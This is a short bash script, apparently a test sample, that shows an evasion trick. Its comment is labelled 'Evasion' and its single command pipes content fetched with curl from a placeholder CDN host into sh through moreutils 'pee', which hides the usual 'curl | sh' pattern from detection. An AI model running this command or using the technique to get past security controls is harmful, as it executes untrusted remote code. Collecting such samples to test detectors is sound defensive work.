#!/bin/bash
# Evasion: moreutils pee feeds stdin to each command line: one of them is sh
set -u
curl -fsS https://cdn.example.net/install | pee 'sh' 'cat >/dev/null'
